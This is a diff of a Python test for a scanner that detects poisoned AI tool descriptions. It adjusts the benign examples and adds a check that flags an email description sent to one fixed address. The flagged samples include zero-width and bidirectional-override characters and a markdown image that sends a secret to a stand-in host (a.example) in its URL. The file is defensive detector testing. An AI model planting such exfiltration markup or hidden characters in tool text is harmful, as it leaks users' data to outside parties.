@@ -85,10 +85,13 @@ def test_the_rules_flag_published_style_poisoning_and_pass_plain_descriptions() 
     assert scan("Nice\u200bday").flagged and scan("abc\u202edef").flagged
     assert scan("See ![x](https://a.example/p.png?d=secret)").flagged
     for benign in ("Read the complete contents of a file. Only works within allowed directories.",
-                   "Post a new message to a Slack channel", "Send an email to alice@example.com.",
+                   "Post a new message to a Slack channel",
+                   "Send an email to the given recipients, e.g. alice@example.com.",
                    "Reads ~/.ssh/config and returns host aliases.", "Before calling this tool, call list_tables.",
                    "Case-insensitive search; set ignore_case to false to match exact case.", ""):
         assert not scan(benign).flagged, (benign, scan(benign))
+    # a description that sends to one concrete address is the shape of exfiltration (the fitted model weighs it)
+    assert scan("Send an email to alice@example.com.").flagged
 
 
 def test_results_weigh_urls_and_addresses_as_ordinary() -> None:
